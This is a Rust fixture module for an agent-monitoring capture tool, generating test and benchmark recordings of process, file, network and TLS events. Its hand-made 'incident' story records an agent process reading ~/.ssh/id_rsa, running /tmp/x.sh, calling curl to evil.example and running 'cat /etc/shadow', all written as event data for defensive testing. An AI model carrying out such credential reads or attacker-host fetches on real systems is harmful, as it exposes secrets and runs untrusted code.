//! Fixture captures for tests and benchmarks, written with the real
//! [`CaptureWriter`] so they exercise the same format as a recording.
//!
//! [`incident`] is a small, hand-made story (an agent's shell spawns python,
//! which spawns sh, which spawns curl; a reused pid later belongs to an
//! unrelated process) whose every row is known. [`synthetic`] generates
//! large captures of process and file events for benchmarks.

pub mod scene;

use std::path::Path;

use anyhow::Result;

use agentsight_capture::manifest::BootAnchor;
use agentsight_capture::rows::{
    FileRow, NetRow, ProcessRow, RowBuffers, StatRow, Subject, TlsChunkRow, TlsEventRow,
};
use agentsight_capture::schema::proc_key;
use agentsight_capture::{prepare_output_dir, CaptureWriter, Manifest, SealPolicy};

pub const SEC: u64 = 1_000_000_000;
/// Boot-time second 100 is wall-clock 2023-11-14T22:13:20Z in fixtures.
pub const ANCHOR: BootAnchor = BootAnchor {
    boottime_ns: 100 * SEC,
    realtime_ns: 1_700_000_000 * SEC as i64,
};

/// Writes a closed capture into `dir` (which must not hold anything but a
/// previous capture) with every row `fill` pushes; rows are flushed in
/// batches, each batch a separate Parquet segment when `segment_per_batch`.
pub fn write_capture(
    dir: &Path,
    capture_id: &str,
    anchor: BootAnchor,
    fill: impl FnOnce(&mut dyn FnMut(&mut RowBuffers) -> Result<()>) -> Result<()>,
) -> Result<Manifest> {
    prepare_output_dir(dir, true)?;
    let mut manifest = Manifest::new(capture_id.to_string());
    manifest.boot_anchor = anchor;
    manifest.started_at_ns = anchor.realtime_ns;
    manifest.host.machine = "x86_64".into();
    manifest.host.hostname = "fixture".into();
    manifest.targets.mode = "command".into();
    // Small segments so that a fixture has several files per table.
    let policy = SealPolicy {
        max_bytes: 1,
        ..SealPolicy::default()
    };
    let mut writer = CaptureWriter::create(dir, manifest, policy)?;
    let mut sink = |b: &mut RowBuffers| -> Result<()> {
        for (table, batch) in b.take_batches()? {
            writer.write(table, &batch)?;
        }
        writer.flush()
    };
    fill(&mut sink)?;
    writer.close(anchor.realtime_ns + 60 * SEC as i64)
}

/// Process keys of the [`incident`] fixture.
#[derive(Clone, Copy, Debug)]
pub struct IncidentKeys {
    /// pid 1, never seen itself: parent of the snapshot shell.
    pub init: u64,
    /// pid 100 `bash`, running before recording started (snapshot).
    pub bash: u64,
    /// pid 200 `python3 agent.py`, child of bash.
    pub python: u64,
    /// pid 300: exec'd `sh -c ...`, then `bash /tmp/x.sh`; child of python.
    pub sh: u64,
    /// pid 400 `curl`, child of sh; exits.
    pub curl: u64,
    /// pid 400 again (reused) `cat /etc/shadow`, child of python; killed by SIGKILL.
    pub cat: u64,
}

pub fn incident_keys() -> IncidentKeys {
    IncidentKeys {
        init: proc_key(1, 0),
        bash: proc_key(100, 50 * SEC),
        python: proc_key(200, 101 * SEC),
        sh: proc_key(300, 102 * SEC),
        curl: proc_key(400, 103 * SEC),
        cat: proc_key(400, 105 * SEC),
    }
}

/// Row counts of the [`incident`] fixture per raw table.
pub const INCIDENT_ROWS: &[(&str, usize)] = &[
    ("process_events", 15),
    ("file_events", 6),
    ("net_events", 2),
    ("tls_chunks", 3),
    ("tls_events", 2),
    ("recorder_stats", 2),
];

fn ms(t: u64) -> u64 {
    t * 1_000_000
}

/// The incident story (times in boot-time ms):
///
/// | ms | pid | what |
/// |---|---|---|
/// | 100000 | 100 | snapshot `bash` (started at 50 s, parent pid 1) |
/// | 101000 | 200 | fork from 100; 101100 exec `python3 agent.py`; 101200 exec `python3 agent.py --resume` (argv truncated) |
/// | 101500 | 200 | open ~/.ssh/id_rsa read-only -> fd 3 |
/// | 101600 | 200 | connect unix /run/dbus -> 0 |
/// | 102000 | 300 | fork from 200; 102100 exec `sh -c ...`; 102200 exec `bash /tmp/x.sh` |
/// | 102500 | 300 | open /tmp/x.sh O_WRONLY\|O_CREAT\|O_TRUNC 0644 -> 4; 102600 chmod 0755; 102700 rename /tmp/a -> /tmp/b |
/// | 103000 | 400 | fork from 300; 103100 exec `curl -s https://evil.example` |
/// | 103200 | 400 | connect 93.184.216.34:443 -> -115; 103300 SNI evil.example; 103400 SSL_write; 103500 SSL_read (2 chunks) |
/// | 104000 | 400 | exit 0 |
/// | 105000 | 400 | (pid reused) fork from 200; 105100 exec `cat /etc/shadow`; 105500 open -> -13 |
/// | 106000 | 400 | killed by signal 9 |
/// | 110000 | 300 | exit 0 |
/// | 120000 | 200 | exit 3 |
///
/// bash never exits.
pub fn incident(dir: &Path, capture_id: &str) -> Result<Manifest> {
    incident_with_anchor(dir, capture_id, ANCHOR)
}

pub fn incident_with_anchor(dir: &Path, capture_id: &str, anchor: BootAnchor) -> Result<Manifest> {
    let k = incident_keys();
    write_capture(dir, capture_id, anchor, |sink| {
        let mut b = RowBuffers::default();
        let s = |t: u64, pid: i32, key: u64, comm: &'static str| Subject {
            ts_ns: ms(t),
            pid,
            tid: pid,
            proc_key: key,
            comm,
            uid: 1000,
        };
        let p = |subject, kind, ppid: Option<i32>, parent_key: Option<u64>| ProcessRow {
            subject,
            kind,
            ppid,
            parent_key,
            gid: 1000,
            cgroup_id: 7,
            ..Default::default()
        };
        // Batch 1: processes up to curl.
        b.process.push(&ProcessRow {
            filename: Some("/usr/bin/bash"),
            argv: Some(vec!["bash"]),
            argv_truncated: Some(false),
            cwd: Some("/home/u"),
            ..p(
                s(100_000, 100, k.bash, "bash"),
                "snapshot",
                Some(1),
                Some(k.init),
            )
        });
        b.process.push(&p(
            s(101_000, 200, k.python, "bash"),
            "fork",
            Some(100),
            Some(k.bash),
        ));
        b.process.push(&ProcessRow {
            filename: Some("/usr/bin/python3"),
            argv: Some(vec!["python3", "agent.py"]),
            argv_truncated: Some(false),
            cwd: Some("/home/u/agent"),
            ..p(
                s(101_100, 200, k.python, "python3"),
                "exec",
                Some(100),
                Some(k.bash),
            )
        });
        b.process.push(&p(
            s(102_000, 300, k.sh, "python3"),
            "fork",
            Some(200),
            Some(k.python),
        ));
        b.process.push(&ProcessRow {
            filename: Some("/bin/sh"),
            argv: Some(vec!["sh", "-c", "bash /tmp/x.sh"]),
            argv_truncated: Some(false),
            ..p(
                s(102_100, 300, k.sh, "sh"),
                "exec",
                Some(200),
                Some(k.python),
            )
        });
        b.process.push(&ProcessRow {
            filename: Some("/usr/bin/bash"),
            argv: Some(vec!["bash", "/tmp/x.sh"]),
            argv_truncated: Some(false),
            ..p(
                s(102_200, 300, k.sh, "bash"),
                "exec",
                Some(200),
                Some(k.python),
            )
        });
        b.process.push(&p(
            s(103_000, 400, k.curl, "bash"),
            "fork",
            Some(300),
            Some(k.sh),
        ));
        b.process.push(&ProcessRow {
            filename: Some("/usr/bin/curl"),
            argv: Some(vec!["curl", "-s", "https://evil.example"]),
            argv_truncated: Some(false),
            ..p(
                s(103_100, 400, k.curl, "curl"),
                "exec",
                Some(300),
                Some(k.sh),
            )
        });
        sink(&mut b)?;
        // Batch 2: the rest of the lifecycle.
        b.process.push(&ProcessRow {
            exit_code: Some(0),
            ..p(s(104_000, 400, k.curl, "curl"), "exit", None, None)
        });
        b.process.push(&p(
            s(105_000, 400, k.cat, "python3"),
            "fork",
            Some(200),
            Some(k.python),
        ));
        b.process.push(&ProcessRow {
            filename: Some("/usr/bin/cat"),
            argv: Some(vec!["cat", "/etc/shadow"]),
            argv_truncated: Some(false),
            ..p(
                s(105_100, 400, k.cat, "cat"),
                "exec",
                Some(200),
                Some(k.python),
            )
        });
        b.process.push(&ProcessRow {
            exit_signal: Some(9),
            ..p(s(106_000, 400, k.cat, "cat"), "exit", None, None)
        });
        b.process.push(&ProcessRow {
            exit_code: Some(0),
            ..p(s(110_000, 300, k.sh, "bash"), "exit", None, None)
        });
        b.process.push(&ProcessRow {
            exit_code: Some(3),
            ..p(s(120_000, 200, k.python, "python3"), "exit", None, None)
        });
        // python exec'd itself again; the row arrives out of time order in a
        // later segment, which the views must not mind.
        b.process.push(&ProcessRow {
            filename: Some("/usr/bin/python3"),
            argv: Some(vec!["python3", "agent.py", "--resume"]),
            argv_truncated: Some(true),
            cwd: Some("/home/u/agent"),
            ..p(
                s(101_200, 200, k.python, "python3"),
                "exec",
                Some(100),
                Some(k.bash),
            )
        });

        // the fixture's paths are absolute and symlink-free: the kernel resolves them unchanged
        let f = |subject, op, path: &'static str, path2, flags, mode, ret: i64| FileRow {
            subject,
            op,
            path,
            path2,
            resolved_path: (op == "open" && ret >= 0).then_some(path),
            dfd: -100,
            flags,
            mode,
            ret,
        };
        b.file.push(&f(
            s(101_500, 200, k.python, "python3"),
            "open",
            "/home/u/.ssh/id_rsa",
            None,
            0o2000000,
            0,
            3,
        ));
        b.file.push(&f(
            s(102_500, 300, k.sh, "bash"),
            "open",
            "/tmp/x.sh",
            None,
            0o1101,
            0o644,
            4,
        ));
        b.file.push(&f(
            s(102_600, 300, k.sh, "bash"),
            "chmod",
            "/tmp/x.sh",
            None,
            0,
            0o755,
            0,
        ));
        b.file.push(&f(
            s(102_700, 300, k.sh, "bash"),
            "rename",
            "/tmp/a",
            Some("/tmp/b"),
            0,
            0,
            0,
        ));
        b.file.push(&f(
            s(105_500, 400, k.cat, "cat"),
            "open",
            "/etc/shadow",
            None,
            0,
            0,
            -13,
        ));
        b.file.push(&f(
            s(105_600, 400, k.cat, "cat"),
            "unlink",
            "/tmp/b",
            None,
            0,
            0,
            -2,
        ));

        b.net.push(&NetRow {
            subject: s(101_600, 200, k.python, "python3"),
            op: "connect",
            fd: 5,
            ret: 0,
            family: "unix",
            unix_path: Some("/run/dbus"),
            ..Default::default()
        });
        b.net.push(&NetRow {
            subject: s(103_200, 400, k.curl, "curl"),
            op: "connect",
            fd: 3,
            ret: -115,
            family: "inet",
            local_addr: Some("10.0.0.2"),
            local_port: Some(40000),
            remote_addr: Some("93.184.216.34"),
            remote_port: Some(443),
            unix_path: None,
        });

        b.tls_events.push(&TlsEventRow {
            subject: s(103_250, 400, k.curl, "curl"),
            event: "set_fd",
            ssl_ptr: 0xdead,
            fd: Some(3),
            value: None,
        });
        b.tls_events.push(&TlsEventRow {
            subject: s(103_300, 400, k.curl, "curl"),
            event: "sni",
            ssl_ptr: 0xdead,
            fd: None,
            value: Some("evil.example"),
        });
        let request: &[u8] = b"GET / HTTP/1.1\r\nHost: evil.example\r\n\r\n";
        b.tls_chunks.push(&TlsChunkRow {
            subject: s(103_400, 400, k.curl, "curl"),
            direction: "write",
            func: "SSL_write",
            ssl_ptr: 0xdead,
            fd: Some(3),
            call_seq: 1,
            chunk_index: 0,
            chunk_offset: 0,
            call_len: request.len() as u64,
            lost_bytes: 0,
            redacted: false,
            data: request,
        });
        let (r1, r2): (&[u8], &[u8]) = (b"HTTP/1.1 200 OK\r\n\r\n", b"echo pwned \xff\n");
        for (i, (part, off)) in [(r1, 0u64), (r2, r1.len() as u64)].into_iter().enumerate() {
            b.tls_chunks.push(&TlsChunkRow {
                subject: s(103_500, 400, k.curl, "curl"),
                direction: "read",
                func: "SSL_read",
                ssl_ptr: 0xdead,
                fd: Some(3),
                call_seq: 2,
                chunk_index: i as u32,
                chunk_offset: off,
                call_len: (r1.len() + r2.len()) as u64,
                lost_bytes: 0,
                redacted: false,
                data: part,
            });
        }
        b.stats.push(&StatRow {
            ts_ns: ms(110_000),
            cpu: None,
            counter: "events_received",
            value: 20,
        });
        b.stats.push(&StatRow {
            ts_ns: ms(120_000),
            cpu: Some(0),
            counter: "ringbuf_reserve_fail_events",
            value: 0,
        });
        sink(&mut b)
    })
}

/// Shape of a [`synthetic`] capture.
#[derive(Clone, Copy, Debug)]
pub struct SyntheticSpec {
    pub processes: usize,
    /// File events per process.
    pub files_per_process: usize,
    /// Rows per write (and per Parquet row group at most).
    pub batch_rows: usize,
    /// Seal a segment once it reaches this many bytes.
    pub segment_bytes: u64,
}

impl Default for SyntheticSpec {
    fn default() -> Self {
        SyntheticSpec {
            processes: 1000,
            files_per_process: 7,
            batch_rows: 65_536,
            segment_bytes: 64 << 20,
        }
    }
}

/// Deterministic pseudo-random numbers (xorshift), so generated captures
/// and randomized tests are reproducible without a rand dependency.
pub struct Rng(pub u64);

impl Rng {
    pub fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }
    pub fn below(&mut self, n: u64) -> u64 {
        if n == 0 {
            0
        } else {
            self.next() % n
        }
    }
    pub fn index(&mut self, n: usize) -> usize {
        self.below(n as u64) as usize
    }
    pub fn bytes(&mut self, n: usize) -> Vec<u8> {
        (0..n).map(|_| self.next() as u8).collect()
    }
}

const PATHS: &[&str] = &[
    "/etc/passwd",
    "/etc/hosts",
    "/usr/lib/libc.so.6",
    "/home/u/.ssh/id_rsa",
    "/tmp/out.txt",
    "/home/u/project/src/main.rs",
    "/home/u/.bashrc",
    "/proc/self/status",
    "/dev/null",
    "/tmp/x.sh",
];
const PROGRAMS: &[(&str, &str)] = &[
    ("/usr/bin/bash", "bash"),
    ("/usr/bin/python3", "python3"),
    ("/usr/bin/git", "git"),
    ("/usr/bin/curl", "curl"),
    ("/usr/bin/cat", "cat"),
    ("/usr/bin/grep", "grep"),
    ("/usr/bin/node", "node"),
];

/// A capture of `processes` processes: process 0 is the root snapshot, and
/// every 1000th process starts an agent session under it whose tools spawn
/// subtrees up to 5 levels deep (pids are reused every 31000 processes).
/// Each process has a fork,
/// an exec and an exit, plus `files_per_process` file events each. Returns
/// the manifest; the root's key is `proc_key(1000, SEC)`.
pub fn synthetic(
    dir: &Path,
    spec: SyntheticSpec,
    mut progress: impl FnMut(u64),
) -> Result<Manifest> {
    let mut anchor_manifest = ANCHOR;
    anchor_manifest.boottime_ns = SEC;
    prepare_output_dir(dir, true)?;
    let mut manifest = Manifest::new("synthetic".into());
    manifest.boot_anchor = anchor_manifest;
    manifest.host.machine = "x86_64".into();
    let policy = SealPolicy {
        max_bytes: spec.segment_bytes,
        ..SealPolicy::default()
    };
    let mut writer = CaptureWriter::create(dir, manifest, policy)?;
    let mut rng = Rng(0x9e37_79b9_7f4a_7c15);
    let mut b = RowBuffers::default();
    // Pids are handed out round-robin below 32768, so they are reused.
    let pid_of = |i: usize| 1000 + (i % 31_000) as i32;
    let start_of = |i: usize| SEC + i as u64 * 10_000_000;
    let key_of = |i: usize| proc_key(pid_of(i) as u32, start_of(i));
    const SESSION: usize = 1000;
    let mut depth: Vec<u8> = Vec::with_capacity(spec.processes);
    let mut session = 0usize;
    for i in 0..spec.processes {
        let (pid, key, t0) = (pid_of(i), key_of(i), start_of(i));
        let (exe, comm) = PROGRAMS[rng.below(PROGRAMS.len() as u64) as usize];
        let subject = |t: u64, comm: &'static str| Subject {
            ts_ns: t,
            pid,
            tid: pid,
            proc_key: key,
            comm,
            uid: 1000,
        };
        if i == 0 {
            depth.push(0);
            b.process.push(&ProcessRow {
                subject: subject(t0, "bash"),
                kind: "snapshot",
                ppid: Some(1),
                parent_key: Some(proc_key(1, 0)),
                filename: Some("/usr/bin/bash"),
                argv: Some(vec!["bash"]),
                ..Default::default()
            });
        } else {
            // Agent sessions of ~1000 processes hang off the root; within a
            // session most processes are tool calls of the agent itself, the
            // rest children of a recent tool (at most 5 levels deep).
            let parent = if i % SESSION == 1 {
                session = i;
                0
            } else if rng.below(10) < 6 {
                session
            } else {
                let back = 1 + rng.below(16.min((i - session) as u64)) as usize;
                let candidate = i - back;
                if depth[candidate] < 5 {
                    candidate
                } else {
                    session
                }
            };
            depth.push(depth[parent] + 1);
            let (ppid, pkey) = (pid_of(parent), key_of(parent));
            b.process.push(&ProcessRow {
                subject: subject(t0, "bash"),
                kind: "fork",
                ppid: Some(ppid),
                parent_key: Some(pkey),
                ..Default::default()
            });
            let arg = format!("task-{i}");
            b.process.push(&ProcessRow {
                subject: subject(t0 + 1_000_000, comm),
                kind: "exec",
                ppid: Some(ppid),
                parent_key: Some(pkey),
                filename: Some(exe),
                argv: Some(vec![comm, "-c", &arg]),
                argv_truncated: Some(false),
                ..Default::default()
            });
            b.process.push(&ProcessRow {
                subject: subject(t0 + 9_000_000, comm),
                kind: "exit",
                exit_code: Some((rng.below(10) == 0) as i32),
                ..Default::default()
            });
        }
        for j in 0..spec.files_per_process {
            let path = PATHS[rng.below(PATHS.len() as u64) as usize];
            let write = rng.below(5) == 0;
            b.file.push(&FileRow {
                subject: subject(t0 + 2_000_000 + j as u64 * 1000, comm),
                op: "open",
                path,
                path2: None,
                resolved_path: None,
                dfd: -100,
                flags: if write { 0o1101 } else { 0o2000000 },
                mode: if write { 0o644 } else { 0 },
                ret: if rng.below(20) == 0 { -2 } else { 3 + j as i64 },
            });
        }
        if b.rows() >= spec.batch_rows {
            progress(b.rows() as u64);
            for (table, batch) in b.take_batches()? {
                writer.write(table, &batch)?;
            }
            writer.flush()?;
        }
    }
    progress(b.rows() as u64);
    for (table, batch) in b.take_batches()? {
        writer.write(table, &batch)?;
    }
    writer.close(ANCHOR.realtime_ns)
}

/// Key of the root process of a [`synthetic`] capture.
pub fn synthetic_root() -> u64 {
    proc_key(1000, SEC)
}

/// A copy of the executable `base` (e.g. `/bin/true`) with an extra
/// read-only section holding `contents`, made with objcopy: an executable
/// that carries the marks of another toolchain or TLS stack (a Go build
/// info section, a rustls panic path), made on the spot rather than hoped
/// for on the machine.
pub fn binary_with_section(
    dir: &Path,
    base: &str,
    name: &str,
    section: &str,
    contents: &[u8],
) -> std::path::PathBuf {
    let data = dir.join(format!("{name}.section"));
    std::fs::write(&data, contents).unwrap();
    let out = dir.join(name);
    let status = std::process::Command::new("objcopy")
        .arg(format!("--add-section={section}={}", data.display()))
        .arg(format!("--set-section-flags={section}=alloc,readonly,data"))
        .arg(base)
        .arg(&out)
        .status()
        .expect("objcopy runs");
    assert!(status.success(), "objcopy {base} -> {}", out.display());
    out
}
